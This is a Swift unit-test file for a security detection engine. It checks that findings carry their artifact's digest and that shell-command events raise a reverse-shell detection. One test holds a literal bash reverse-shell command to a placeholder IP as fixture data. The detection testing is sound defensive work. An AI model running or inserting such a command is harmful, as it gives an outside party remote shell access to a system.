import Detectors
import Evidence
import Testing

@testable import Engine

struct DetectingSinkTests {
  private let artifact = Digest(of: Array("a".utf8))

  @Test func aParsersFindingGetsItsArtifactsName() {
    let kept = CollectingSink()
    let sink = DetectingSink(kept, artifact: artifact)
    sink.finding(
      Finding(
        rule: "guardduty.x", title: "t", severity: .high,
        evidence: [EvidenceReference(artifact: .unnamed, locator: Locator(offset: 1, length: 2))], message: "m"))
    #expect(kept.findings.first?.evidence.map(\.artifact) == [artifact])
  }

  @Test func eventsReachDetectorsAndTheResult() {
    let kept = CollectingSink()
    let sink = DetectingSink(kept, artifact: artifact)
    sink.event(
      Event(
        time: nil, dataType: "linux:shell:command", message: "m",
        attributes: [Attribute("command", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")], locator: .whole))
    sink.finish()
    #expect(kept.events.count == 1)
    #expect(
      kept.findings.contains { $0.rule == "reverse-shell.command-line" && $0.evidence.first?.artifact == artifact })
  }
}
